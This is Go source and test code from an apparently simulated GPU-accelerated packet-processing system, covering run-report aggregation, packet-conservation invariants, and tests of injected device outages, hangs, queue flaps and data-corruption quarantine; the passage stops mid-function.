	// Tenants is the per-tenant breakdown (one entry per configured tenant;
	// a single implicit entry with Name "" for classic single-app runs).
	Tenants []TenantReport
}

func (s *System) report() *Report {
	now := s.eng.Now()
	// Finalize RX accounting before reading queue stats: load offered to a
	// queue that ended the run flapped down (or was last polled before the
	// end) becomes head-drop overflow in the drop counters instead of
	// vanishing between the last poll and the end of the run. No trace
	// events are emitted — the engine has stopped, digests are sealed.
	for _, p := range s.ports {
		for _, q := range p.Rx {
			q.FinalizeAccounting(now)
		}
	}

	r := &Report{Measured: now - s.cfg.Warmup}
	if now > s.stopTime {
		r.Measured = s.stopTime - s.cfg.Warmup
	}
	for _, p := range s.ports {
		pps, bps := p.TxM.RateWindow()
		r.TxGbps += stats.Gbps(bps)
		r.TxPPS += pps
		r.PerPortGbps = append(r.PerPortGbps, stats.Gbps(bps))
		d, dr, af := p.RxStats()
		r.RxDelivered += d
		r.RxDropped += dr
		r.AllocFailed += af
		for _, q := range p.Rx {
			if h := q.HighWatermark(); h > r.RxBacklogHWM {
				r.RxBacklogHWM = h
			}
		}
	}
	for _, w := range s.workers {
		for _, ln := range w.lanes {
			r.Latency.Merge(&ln.latency)
			r.GraphDrops += ln.graphDrops()
			r.TxPackets += ln.txPackets
			r.OffloadedPackets += ln.offloadedPkts
			r.FallbackPackets += ln.fallbackPkts
			r.FailedTasks += ln.failedTasks
			r.TimedOutTasks += ln.timedOutTasks
			r.ShedPackets += ln.shedPkts
			r.RejectedTasks += ln.rejectedTasks
			r.QuarantinedPackets += ln.quarantinedPkts
		}
		if w.sentinel != nil {
			r.IntegrityChecks += w.sentinel.Checks
			r.CorruptionDetected += w.sentinel.Mismatches
		}
		if w.inflightHWM > r.WorkerInflightHWM {
			r.WorkerInflightHWM = w.inflightHWM
		}
		r.PoolOutstanding += w.pktPool.Stats().Outstanding
	}
	if s.integrityTracker != nil {
		for i := range s.devices {
			r.DeviceCorruptionScores = append(r.DeviceCorruptionScores, s.integrityTracker.Score(i))
		}
		r.FirstMismatchAt = s.firstMismatchAt
	}
	for _, d := range s.devices {
		st := d.Stats()
		r.DeviceStats = append(r.DeviceStats, st)
		if st.MaxQueued > r.DeviceQueueHWM {
			r.DeviceQueueHWM = st.MaxQueued
		}
	}
	for _, row := range s.governors {
		for _, g := range row {
			if g.Peak() > r.OverloadPeak {
				r.OverloadPeak = g.Peak()
			}
			if g.Level() > r.OverloadFinal {
				r.OverloadFinal = g.Level()
			}
		}
	}
	if dt := (s.stopTime - s.tailMarkTime).Seconds(); s.tailMarkTime > 0 && dt > 0 {
		var bytes uint64
		for i := range s.tailEndBytes {
			bytes += s.tailEndBytes[i] - s.tailMarkBytes[i]
		}
		r.TailGbps = stats.Gbps(float64(bytes) * 8 / dt)
	}
	if ctl := s.controllers[0][0]; ctl != nil {
		r.FinalW = ctl.W()
		r.LBTrace = ctl.Trace
	}
	r.Capture = s.captured
	r.NodeStats = map[string]NodeStat{}
	for _, w := range s.workers {
		for _, ln := range w.lanes {
			prefix := ""
			if name := s.tenants[ln.tenant].Name; name != "" {
				prefix = name + "/"
			}
			for _, n := range ln.g.Nodes {
				key := prefix + n.Name
				st := r.NodeStats[key]
				st.Processed += n.Processed
				st.Dropped += n.Dropped
				st.Splits += n.Splits
				st.Reuses += n.Reuses
				r.NodeStats[key] = st
			}
		}
	}
	s.tenantReports(r)
	s.endOfRunChecks(r)
	return r
}

// tenantReports fills the per-tenant breakdown.
func (s *System) tenantReports(r *Report) {
	r.Tenants = make([]TenantReport, len(s.tenants))
	measured := r.Measured.Seconds()
	for t := range s.tenants {
		tr := &r.Tenants[t]
		tr.Name = s.tenants[t].Name
		tr.SLOP999 = s.tenants[t].SLOP999
		for _, p := range s.ports {
			for _, q := range p.Rx {
				if int(q.Tenant) != t {
					continue
				}
				d, dr, af := q.Stats()
				tr.RxDelivered += d
				tr.RxDropped += dr
				tr.AllocFailed += af
			}
		}
		var wireBytes uint64
		for _, w := range s.workers {
			ln := w.lanes[t]
			tr.TxPackets += ln.txPackets
			tr.GraphDrops += ln.graphDrops()
			tr.ShedPackets += ln.shedPkts
			tr.QuarantinedPackets += ln.quarantinedPkts
			tr.OffloadedPackets += ln.offloadedPkts
			tr.FallbackPackets += ln.fallbackPkts
			tr.FailedTasks += ln.failedTasks
			tr.TimedOutTasks += ln.timedOutTasks
			tr.RejectedTasks += ln.rejectedTasks
			tr.Latency.Merge(&ln.latency)
			wireBytes += ln.txWireBytesMeasured
		}
		if measured > 0 {
			tr.TxGbps = stats.Gbps(float64(wireBytes) * 8 / measured)
		}
		if ctl := s.controllers[0][t]; ctl != nil {
			tr.FinalW = ctl.W()
		}
		tr.SLOMet = tr.SLOP999 <= 0 || tr.Latency.Percentile(99.9) <= tr.SLOP999
		// Evicted tenants keep a sealed section: counters frozen at the
		// evict (their lanes and queues stopped accruing), the digest
		// sealed at commit, and the exit time recorded — the section is
		// retained, not dropped or zero-filled.
		tr.Admitted = s.tstate[t].admitted
		tr.Evicted = s.tstate[t].evicted
		tr.EvictedAt = s.tstate[t].evictedAt
		tr.Digest = s.cfg.Tracer.TenantDigest(t)
	}
}

// endOfRunChecks runs the drain-time invariants. With a checker attached,
// violations are collected on it (the chaos driver needs the run to finish
// and report); without one, a pool leak still panics when the pools are in
// debug-checked mode (-tags debugChecks), keeping the original fail-fast
// behaviour for developer runs.
func (s *System) endOfRunChecks(r *Report) {
	now := s.eng.Now()
	ck := s.cfg.Checker
	// Drain-state invariants (pools empty, conservation) only hold for runs
	// that actually drained; after a watchdog force-stop the in-flight
	// packets are legitimately unaccounted, and drain.stuck already fired.
	drained := s.allWorkersStopped()
	if drained {
		for _, w := range s.workers {
			for _, assert := range []func() error{w.pktPool.AssertDrained, w.batchPool.AssertDrained} {
				err := assert()
				if err == nil {
					continue
				}
				switch {
				case ck != nil:
					ck.PoolDrained(now, err)
				case w.pktPool.DebugChecksEnabled():
					panic(fmt.Sprintf("core: worker %d: %v", w.id, err))
				}
			}
		}
	}
	if ck == nil {
		return
	}
	// Orphaned-lane checks: an epoch still mid-flight when the engine
	// stopped, or plan events that never got their epoch, mean the handoff
	// protocol lost track of work it promised to re-seat.
	if s.rcActive {
		ck.OrphanLane(now, s.rcEpoch, fmt.Sprintf(
			"epoch %d (%s) still in progress at engine stop (begun %v)",
			s.rcEpoch, s.rcEv.Kind, s.rcBegin))
	}
	if s.rcNext < len(s.rcEvents) {
		ck.OrphanLane(now, s.rcEpoch, fmt.Sprintf(
			"%d reconfig event(s) scheduled inside the run never began an epoch (next: %s at %v)",
			len(s.rcEvents)-s.rcNext, s.rcEvents[s.rcNext].Kind, s.rcEvents[s.rcNext].At))
	}
	// Packet conservation over the whole run: every NIC-delivered packet is
	// accounted exactly once as transmitted, dropped inside a pipeline, shed
	// by overload control, or quarantined by the integrity sentinel —
	// globally and within each tenant, so no tenant's loss can hide behind a
	// co-tenant's surplus.
	if drained {
		ck.Conservation(now, r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets, r.QuarantinedPackets)
		for _, tr := range r.Tenants {
			name := tr.Name
			if name == "" {
				name = "t0"
			}
			ck.TenantConservation(now, name, tr.RxDelivered, tr.TxPackets, tr.GraphDrops, tr.ShedPackets, tr.QuarantinedPackets)
		}
	}
	for i, d := range s.devices {
		st := d.Stats()
		ck.DeviceUtil(now, s.cfg.Topology.Devices[i].Name, st.KernelBusy, st.CopyBusy, st.LastFinish)
	}
	ck.EndOfRun(now)
}

// allWorkersStopped reports whether every worker retired normally (false
// after a watchdog force-stop).
func (s *System) allWorkersStopped() bool {
	for _, w := range s.workers {
		if !w.stopped {
			return false
		}
	}
	return true
}

// NodeStat is the aggregated activity of one element instance.
type NodeStat struct {
	Processed uint64
	Dropped   uint64
	Splits    uint64
	Reuses    uint64
}

// newLaneRand derives a deterministic PRNG per (worker, tenant) lane. The
// tenant-0 stream is identical to the pre-tenancy per-worker stream, which
// single-tenant digest stability depends on.
func (s *System) newLaneRand(id int, tenant int32) *rng.Rand {
	return rng.New(s.cfg.Seed*0x9E3779B97F4A7C15 + uint64(id) + 1 + uint64(tenant)*0x9D2C5680F4A7C159)
}

// newSentinelRand derives the per-worker sentinel sampling stream. The salt
// keeps it disjoint from every lane stream, so arming the sentinel never
// perturbs element-level randomness.
func (s *System) newSentinelRand(id int) *rng.Rand {
	return rng.New((s.cfg.Seed*0x9E3779B97F4A7C15 ^ 0xC2B2AE3D27D4EB4F) + uint64(id) + 1)
}

// newCorruptRand derives the byte-flip stream for one DeviceCorrupt event
// from (run seed, event time, device), making the corruption pattern part of
// the run's identity.
func (s *System) newCorruptRand(ev fault.Event) *rng.Rand {
	return rng.New((s.cfg.Seed*0x9E3779B97F4A7C15 ^ 0xD6E8FEB86659FD93) +
		uint64(ev.At)*0x9D2C5680F4A7C159 + uint64(ev.Device) + 1)
}
