package core

import (
	"testing"

	"nba/internal/fault"
	"nba/internal/integrity"
	"nba/internal/invariant"
	"nba/internal/simtime"
	"nba/internal/trace"
)

// corruptionCfg is the acceptance scenario: IPsec with 80% fixed offload so
// the device sees steady aggregates, and device 0 silently corrupting every
// aggregate for a 4 ms window mid-run.
func corruptionCfg() Config {
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
	cfg.FaultPlan = fault.Corruption(3*simtime.Millisecond, 7*simtime.Millisecond, 0, 1, 0x5a)
	cfg.Integrity = &integrity.Config{SampleRate: 1}
	return cfg
}

// TestCorruptionSentinelQuarantinesAndEscalates pins the end-to-end
// integrity story: a seeded DeviceCorrupt window with the sentinel armed
// must detect mismatches, quarantine every mismatched aggregate (nothing
// corrupt reaches TX — the corrupt.leak oracle stays silent), keep the
// extended five-term conservation identity, and walk the escalation ladder:
// demote, fail-stop, then probe re-admission once the device behaves.
func TestCorruptionSentinelQuarantinesAndEscalates(t *testing.T) {
	ck := invariant.New()
	cfg := corruptionCfg()
	cfg.Checker = ck
	cfg.Tracer = trace.New(trace.Options{Capacity: 1 << 20, CheckpointInterval: -1})
	r := run(t, cfg)

	if r.IntegrityChecks == 0 {
		t.Fatal("sentinel performed no checks at sample rate 1")
	}
	if r.CorruptionDetected == 0 {
		t.Fatal("no mismatch detected during a probability-1 corruption window")
	}
	if r.QuarantinedPackets == 0 {
		t.Fatal("no packets quarantined despite detected corruption")
	}
	if r.FirstMismatchAt < 3*simtime.Millisecond {
		t.Errorf("first mismatch at %v, before the corruption window opened", r.FirstMismatchAt)
	}
	for _, v := range ck.Violations() {
		t.Errorf("invariant violated: %s", v)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding (quarantine must return packets to the pool)", r.PoolOutstanding)
	}
	if len(r.DeviceCorruptionScores) == 0 {
		t.Fatal("report carries no per-device corruption scores")
	}
	// The corruption window closed 3 ms before the end of the run and the
	// device was re-admitted, so some traffic still flows.
	if r.TxGbps < 1.0 {
		t.Errorf("TxGbps = %.2f, run collapsed instead of containing the corruption", r.TxGbps)
	}

	// The trace shows the whole ladder: quarantines, at least one demotion,
	// a fail-stop, and a probe re-admission.
	sum := trace.Summarize(cfg.Tracer.Events())
	if len(sum.Integrities) == 0 {
		t.Fatal("trace summary has no integrity sentinel section")
	}
	ip := sum.Integrities[0]
	if ip.Mismatches == 0 || ip.Quarantined == 0 {
		t.Errorf("summary profile: %d mismatches, %d quarantined, want both > 0", ip.Mismatches, ip.Quarantined)
	}
	if ip.Demotions == 0 {
		t.Error("device was never demoted despite sustained corruption")
	}
	if ip.FailStops == 0 {
		t.Error("device was never fail-stopped despite probability-1 corruption")
	}
	if ip.Readmits == 0 {
		t.Error("fail-stopped device was never re-admitted by the recovery probe")
	}
}

// TestCorruptionRunDeterministic: the corruption scenario — sampling coins,
// injected flips, escalation timing — is part of the run identity.
func TestCorruptionRunDeterministic(t *testing.T) {
	mk := func() (string, *Report) {
		cfg := corruptionCfg()
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		r := run(t, cfg)
		return cfg.Tracer.Digest(), r
	}
	d1, r1 := mk()
	d2, r2 := mk()
	if d1 != d2 {
		t.Fatalf("corruption run digests diverged:\n%s\n%s", d1, d2)
	}
	if r1.QuarantinedPackets != r2.QuarantinedPackets || r1.CorruptionDetected != r2.CorruptionDetected {
		t.Fatalf("corruption counters diverged: %d/%d vs %d/%d",
			r1.QuarantinedPackets, r1.CorruptionDetected,
			r2.QuarantinedPackets, r2.CorruptionDetected)
	}
}

// TestIntegrityArmedCleanRunStable is the other half of the disarm contract
// (nil-Integrity goldens are pinned by the trace golden tests): arming the
// sentinel on a corruption-free run detects nothing, quarantines nothing,
// and is byte-identical across two records.
func TestIntegrityArmedCleanRunStable(t *testing.T) {
	mk := func() (string, *Report) {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
		cfg.Integrity = &integrity.Config{SampleRate: 1}
		cfg.Checker = invariant.New()
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		r := run(t, cfg)
		for _, v := range cfg.Checker.Violations() {
			t.Errorf("invariant violated on a clean armed run: %s", v)
		}
		return cfg.Tracer.Digest(), r
	}
	d1, r1 := mk()
	d2, _ := mk()
	if d1 != d2 {
		t.Fatalf("armed corruption-free run not stable across records:\n%s\n%s", d1, d2)
	}
	if r1.IntegrityChecks == 0 {
		t.Error("sentinel performed no checks at sample rate 1")
	}
	if r1.CorruptionDetected != 0 || r1.QuarantinedPackets != 0 {
		t.Errorf("clean run flagged corruption: %d detected, %d quarantined",
			r1.CorruptionDetected, r1.QuarantinedPackets)
	}
}
