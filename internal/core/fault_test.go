package core

import (
	"testing"

	"nba/internal/fault"
	"nba/internal/gen"
	"nba/internal/invariant"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

func TestGPUOutageFallsBackToCPU(t *testing.T) {
	// Fixed 80% offload with the GPU dead for a window mid-run: every task
	// submitted during the outage fails fast and its packets must be rescued
	// onto the CPU — processed, transmitted, and returned to the pool.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
	cfg.FaultPlan = fault.GPUOutage(4*simtime.Millisecond, 7*simtime.Millisecond, 0)
	r := run(t, cfg)

	if r.FailedTasks == 0 {
		t.Error("no failed tasks despite a 3 ms device outage")
	}
	if r.FallbackPackets == 0 {
		t.Error("no packets rescued onto the CPU")
	}
	if r.TimedOutTasks != 0 {
		t.Errorf("fail-fast outage produced %d timeouts, want 0", r.TimedOutTasks)
	}
	// Fallback packets were still processed and transmitted. The CPU alone
	// cannot carry the full IPsec load, so some backpressure shedding is
	// expected during the outage — but well over half the offered 4.0 Gbps
	// must still flow.
	if r.TxGbps < 2.2 {
		t.Errorf("TxGbps = %.2f during outage run, want > 2.2", r.TxGbps)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding after fallback run", r.PoolOutstanding)
	}
	if ft := r.DeviceStats[0].FailedTasks; ft == 0 {
		t.Error("device recorded no failed tasks")
	}
}

func TestDeviceHangTimeoutRescue(t *testing.T) {
	// A hang (no completions, no failures) wedges in-flight tasks until the
	// worker-side completion timeout rescues them on the CPU. The device
	// recovers before the end so the run drains cleanly; rescued tasks'
	// eventual device completions must be deduplicated, not double-freed.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
	cfg.Duration = 12 * simtime.Millisecond
	cfg.TaskTimeout = 1 * simtime.Millisecond
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{At: 4 * simtime.Millisecond, Kind: fault.DeviceHang, Device: 0},
		{At: 8 * simtime.Millisecond, Kind: fault.DeviceRecover, Device: 0},
	}}
	r := run(t, cfg)

	if r.TimedOutTasks == 0 {
		t.Error("no timed-out tasks despite a 4 ms hang with a 1 ms timeout")
	}
	if r.FallbackPackets == 0 {
		t.Error("no packets rescued onto the CPU")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding (double-free or lost rescue)", r.PoolOutstanding)
	}
	if r.TxGbps < 2.0 {
		t.Errorf("TxGbps = %.2f, want over half of offered 4.0 despite the hang", r.TxGbps)
	}
}

func TestDeviceSlowdownDegradesNotWedges(t *testing.T) {
	// A 4x-slower device is degraded capacity, not a fault: tasks still
	// complete (no failures, no timeouts at the default 5 ms), the run
	// drains, and nothing leaks.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{At: 3 * simtime.Millisecond, Kind: fault.DeviceSlowdown, Device: 0,
			KernelFactor: 4, CopyFactor: 4},
		{At: 7 * simtime.Millisecond, Kind: fault.DeviceRecover, Device: 0},
	}}
	r := run(t, cfg)

	if r.FailedTasks != 0 || r.TimedOutTasks != 0 {
		t.Errorf("slowdown caused %d failures / %d timeouts, want none",
			r.FailedTasks, r.TimedOutTasks)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r.PoolOutstanding)
	}
	if r.TxGbps < 2.0 {
		t.Errorf("TxGbps = %.2f, slowdown should degrade, not collapse", r.TxGbps)
	}
}

func TestRxQueueFlapMidRun(t *testing.T) {
	// Flap every RX queue of port 0 for 5 ms: deliveries stop, the 4096-deep
	// rings (~1 Mpps each) overflow into the drop counters, and after
	// recovery the run drains with full packet conservation.
	cfg := quickCfg(ipv4Config, 2e9, 64)
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{At: 3 * simtime.Millisecond, Kind: fault.RxQueueDown, Port: 0, Queue: -1},
		{At: 8 * simtime.Millisecond, Kind: fault.RxQueueUp, Port: 0, Queue: -1},
	}}
	r := run(t, cfg)

	if r.RxDropped == 0 {
		t.Error("no drops despite a 5 ms RX-queue flap at 2 Gbps")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding after flap run", r.PoolOutstanding)
	}
	// Port 1 was untouched (≈2 Gbps) and port 0 still carried traffic
	// outside the flap window.
	if r.TxGbps < 2.0 {
		t.Errorf("TxGbps = %.2f, want port 1 plus partial port 0", r.TxGbps)
	}

	// The same run without the flap drops nothing — the drops above are the
	// fault's doing, not overload.
	clean := run(t, quickCfg(ipv4Config, 2e9, 64))
	if clean.RxDropped != 0 {
		t.Errorf("fault-free control run dropped %d packets", clean.RxDropped)
	}
}

func TestAdaptiveCollapsesAndReclimbsOnOutage(t *testing.T) {
	// The paper's robustness claim under an injected outage: the adaptive
	// balancer must push W to ~0 while the GPU is dead (every offload fails)
	// and re-discover the GPU-favouring optimum after recovery.
	const (
		failAt    = 40 * simtime.Millisecond
		recoverAt = 70 * simtime.Millisecond
	)
	// The 2 ms control period fills the controller's 16-sample smoothing
	// window each step: with 1 ms updates the boundary perturbations near
	// w=0 are judged on too few batch-quantised samples and the escape from
	// the collapse becomes a random walk.
	cfg := Config{
		GraphConfig:       sprintfConfig(ipsecConfigTpl, "adaptive"),
		Generator:         &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1},
		OfferedBpsPerPort: 10e9,
		WorkersPerSocket:  7,
		Warmup:            5 * simtime.Millisecond,
		Duration:          250 * simtime.Millisecond,
		ALBObserve:        250 * simtime.Microsecond,
		ALBUpdate:         2 * simtime.Millisecond,
		LatencySample:     64,
		Seed:              3,
		FaultPlan:         fault.GPUOutage(failAt, recoverAt, 0),
	}
	r := run(t, cfg)

	if r.FailedTasks == 0 {
		t.Fatal("outage produced no failed tasks")
	}
	// During the late outage (allowing the collapse a few control periods)
	// W must sit at ~0: offloading to a dead device wastes the packets'
	// rescue work.
	for _, tp := range r.LBTrace {
		if tp.At >= failAt+10*simtime.Millisecond && tp.At < recoverAt && tp.W > 0.1 {
			t.Errorf("W = %.3f at %v during outage, want <= 0.1", tp.W, tp.At)
		}
	}
	// After recovery the climb resumes: like the no-fault run
	// (TestALBReconvergesAfterWorkloadShift), 64B IPsec is GPU-favouring.
	if r.FinalW < 0.6 {
		t.Errorf("final W = %.3f after recovery, want > 0.6 (re-climb)", r.FinalW)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r.PoolOutstanding)
	}
}

func TestRateBurstShiftsOfferedLoad(t *testing.T) {
	// A 2x burst for 3 ms of the 8 ms measured window: total delivered
	// arrivals must exceed the flat-rate run's, and the composition with
	// mid-run rate changes must stay consistent (burst factor applies to the
	// current nominal rate).
	flat := run(t, quickCfg(l2Config, 2e9, 64))
	cfg := quickCfg(l2Config, 2e9, 64)
	cfg.FaultPlan = &fault.Plan{Events: fault.Burst(4*simtime.Millisecond, 3*simtime.Millisecond, 2)}
	r := run(t, cfg)

	if r.RxDelivered <= flat.RxDelivered {
		t.Errorf("burst run delivered %d <= flat run's %d", r.RxDelivered, flat.RxDelivered)
	}
	if r.TxGbps <= flat.TxGbps {
		t.Errorf("burst TxGbps %.2f <= flat %.2f", r.TxGbps, flat.TxGbps)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r.PoolOutstanding)
	}
}

func TestFaultPlanValidationRejectsBadTargets(t *testing.T) {
	bad := []fault.Plan{
		{Events: []fault.Event{{Kind: fault.DeviceFail, Device: 5}}},
		{Events: []fault.Event{{Kind: fault.RxQueueDown, Port: 9}}},
		{Events: []fault.Event{{Kind: fault.RateBurst, RateFactor: -1}}},
	}
	for i := range bad {
		cfg := quickCfg(l2Config, 1e9, 64)
		cfg.FaultPlan = &bad[i]
		if _, err := NewSystem(cfg); err == nil {
			t.Errorf("plan %d: NewSystem accepted an invalid fault plan", i)
		}
	}
}

// TestFaultRunsAreDeterministic runs the canonical outage scenario twice and
// requires byte-identical outcomes: the plan is part of the run's identity.
func TestFaultRunsAreDeterministic(t *testing.T) {
	mk := func() *Report {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 2e9, 64)
		cfg.FaultPlan = fault.GPUOutage(4*simtime.Millisecond, 7*simtime.Millisecond, 0)
		return run(t, cfg)
	}
	a, b := mk(), mk()
	if a.TxGbps != b.TxGbps || a.FailedTasks != b.FailedTasks ||
		a.FallbackPackets != b.FallbackPackets || a.RxDropped != b.RxDropped ||
		a.OffloadedPackets != b.OffloadedPackets {
		t.Errorf("fault runs diverged: %+v vs %+v",
			[]uint64{uint64(a.TxGbps * 1e6), a.FailedTasks, a.FallbackPackets, a.RxDropped, a.OffloadedPackets},
			[]uint64{uint64(b.TxGbps * 1e6), b.FailedTasks, b.FallbackPackets, b.RxDropped, b.OffloadedPackets})
	}
}

// TestFaultPlanTopologyUsesConfiguredQueues pins the Validate wiring: the
// queue bound comes from the resolved WorkersPerSocket, not the raw config.
func TestFaultPlanTopologyUsesConfiguredQueues(t *testing.T) {
	cfg := quickCfg(l2Config, 1e9, 64)
	cfg.Topology = sysinfo.SingleSocketTopology(4, 2) // 3 workers -> queues 0..2
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{Kind: fault.RxQueueDown, Port: 0, Queue: 2},
	}}
	if _, err := NewSystem(cfg); err != nil {
		t.Errorf("queue 2 of 3 rejected: %v", err)
	}
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{Kind: fault.RxQueueDown, Port: 0, Queue: 3},
	}}
	if _, err := NewSystem(cfg); err == nil {
		t.Error("queue 3 of 3 accepted")
	}
}

// TestSameTickFaultOrderIsPlanOrder pins the tie-break for contradictory
// fault events scheduled at the same virtual tick: they apply in plan order
// (Plan.Sorted is stable), the last writer wins, and the outcome is the
// same on every replay — not whichever event a sort happened to slot first.
func TestSameTickFaultOrderIsPlanOrder(t *testing.T) {
	const tick = 4 * simtime.Millisecond
	runOrder := func(firstFactor, secondFactor float64) (string, *Report) {
		cfg := quickCfg(ipv4Config, 2e9, 64)
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
			{At: tick, Kind: fault.RateBurst, RateFactor: firstFactor},
			{At: tick, Kind: fault.RateBurst, RateFactor: secondFactor},
		}}
		r := run(t, cfg)
		return cfg.Tracer.Digest(), r
	}

	// 8x-then-1x nets out to nominal: the 8x factor is overwritten within
	// the same instant, so no extra load ever reaches the queues.
	flat := run(t, quickCfg(ipv4Config, 2e9, 64))
	cancelled, r := runOrder(8, 1)
	if r.RxDelivered != flat.RxDelivered {
		t.Errorf("8x-then-1x delivered %d, want the flat run's %d (last event wins)",
			r.RxDelivered, flat.RxDelivered)
	}
	for i := 0; i < 9; i++ {
		d, _ := runOrder(8, 1)
		if d != cancelled {
			t.Fatalf("replay %d: same-tick fault digest diverged:\n%s\n%s", i, d, cancelled)
		}
	}

	// The reversed plan must give the reversed outcome: 1x-then-8x leaves
	// the burst in force for the rest of the run.
	reversed, r2 := runOrder(1, 8)
	if r2.RxDelivered <= flat.RxDelivered {
		t.Errorf("1x-then-8x delivered %d <= flat %d; the surviving burst factor is not applied",
			r2.RxDelivered, flat.RxDelivered)
	}
	if reversed == cancelled {
		t.Error("reversed same-tick plan produced an identical digest; order is not being honoured")
	}
}

// TestFlapUnderLoadConservation pins the documented down-queue semantics
// end to end: RSS keeps offering load to a flapped-down queue, the overflow
// beyond ring capacity lands in head-drop accounting even when the queue is
// never polled again, and the conservation identity still balances with the
// oracle armed.
func TestFlapUnderLoadConservation(t *testing.T) {
	ck := invariant.New()
	cfg := quickCfg(ipv4Config, 2e9, 64)
	cfg.Checker = ck
	// Down at 3 ms, never recovered: ~7 ms of arrivals pile into 4096-deep
	// rings that stop delivering.
	cfg.FaultPlan = &fault.Plan{Events: []fault.Event{
		{At: 3 * simtime.Millisecond, Kind: fault.RxQueueDown, Port: 0, Queue: -1},
	}}
	r := run(t, cfg)

	if r.RxDropped == 0 {
		t.Error("no head-drops despite ~7 ms of load into downed 4096-deep rings")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r.PoolOutstanding)
	}
	if got := r.RxDelivered; got != r.TxPackets+r.GraphDrops+r.ShedPackets {
		t.Errorf("conservation broken: delivered %d != tx %d + graph %d + shed %d",
			got, r.TxPackets, r.GraphDrops, r.ShedPackets)
	}
	for _, v := range ck.Violations() {
		t.Errorf("invariant violation: %+v", v)
	}
}
