package core

import (
	"testing"

	_ "nba/internal/apps/ids"
	_ "nba/internal/apps/ipsec"
	_ "nba/internal/apps/ipv4"
	_ "nba/internal/apps/ipv6"
	"nba/internal/gen"
	"nba/internal/graph"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

const (
	ipv4Config = `FromInput() -> CheckIPHeader() -> IPLookup("entries=4096", "seed=42") -> DecIPTTL() -> ToOutput();`

	l2Config = `FromInput() -> L2Forward() -> ToOutput();`

	ipsecConfigTpl = `
		FromInput() -> CheckIPHeader() -> IPsecESPencap("sas=256")
			-> LoadBalance("%s")
			-> IPsecAES("sas=256") -> IPsecHMAC("sas=256") -> ToOutput();`
)

func quickCfg(graphCfg string, bpsPerPort float64, frameLen int) Config {
	return Config{
		Topology:          sysinfo.SingleSocketTopology(4, 2), // 3 workers, 2 ports
		GraphConfig:       graphCfg,
		Generator:         &gen.UDP4{FrameLen: frameLen, Flows: 1024, Seed: 1},
		OfferedBpsPerPort: bpsPerPort,
		Warmup:            2 * simtime.Millisecond,
		Duration:          8 * simtime.Millisecond,
		Seed:              7,
	}
}

func run(t *testing.T, cfg Config) *Report {
	t.Helper()
	sys, err := NewSystem(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sys.Run()
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestL2ForwardReachesOfferedRate(t *testing.T) {
	// 2 Gbps per port of 64 B frames is far below L2fwd capacity: TX must
	// essentially equal offered load with no drops.
	r := run(t, quickCfg(l2Config, 2e9, 64))
	if r.TxGbps < 3.8 || r.TxGbps > 4.1 {
		t.Errorf("TxGbps = %.2f, want ~4.0 (2 ports x 2G offered)", r.TxGbps)
	}
	if r.RxDropped != 0 {
		t.Errorf("dropped %d packets below capacity", r.RxDropped)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("packet leak: %d outstanding after drain", r.PoolOutstanding)
	}
}

func TestPacketConservation(t *testing.T) {
	// delivered = transmitted + dropped-in-graph (after full drain).
	r := run(t, quickCfg(ipv4Config, 3e9, 64))
	total := uint64(r.TxPPS*r.Measured.Seconds() + 0.5) // approximate; use counters instead
	_ = total
	if r.PoolOutstanding != 0 {
		t.Fatalf("%d packets leaked", r.PoolOutstanding)
	}
	if r.RxDelivered == 0 {
		t.Fatal("no packets delivered")
	}
}

func TestIPv4OverloadDropsAtNIC(t *testing.T) {
	// 10 Gbps/port of 64 B frames on 3 workers exceeds CPU capacity: the
	// system must saturate and shed load at the RX queues, not crash or
	// leak.
	r := run(t, quickCfg(ipv4Config, 10e9, 64))
	if r.RxDropped == 0 {
		t.Error("overload produced no NIC drops")
	}
	if r.TxGbps <= 0 {
		t.Error("no throughput under overload")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("packet leak under overload: %d", r.PoolOutstanding)
	}
}

func TestIPv4ThroughputScalesWithPacketSize(t *testing.T) {
	small := run(t, quickCfg(ipv4Config, 10e9, 64))
	large := run(t, quickCfg(ipv4Config, 10e9, 1500))
	if large.TxGbps <= small.TxGbps {
		t.Errorf("1500B (%.1fG) not faster than 64B (%.1fG)", large.TxGbps, small.TxGbps)
	}
	// Large packets at 10G/port on 2 ports should reach line rate.
	if large.TxGbps < 19 {
		t.Errorf("1500B TxGbps = %.2f, want ~20 (line rate)", large.TxGbps)
	}
}

func TestIPsecGPUOnlyOffloads(t *testing.T) {
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "gpu"), 3e9, 256)
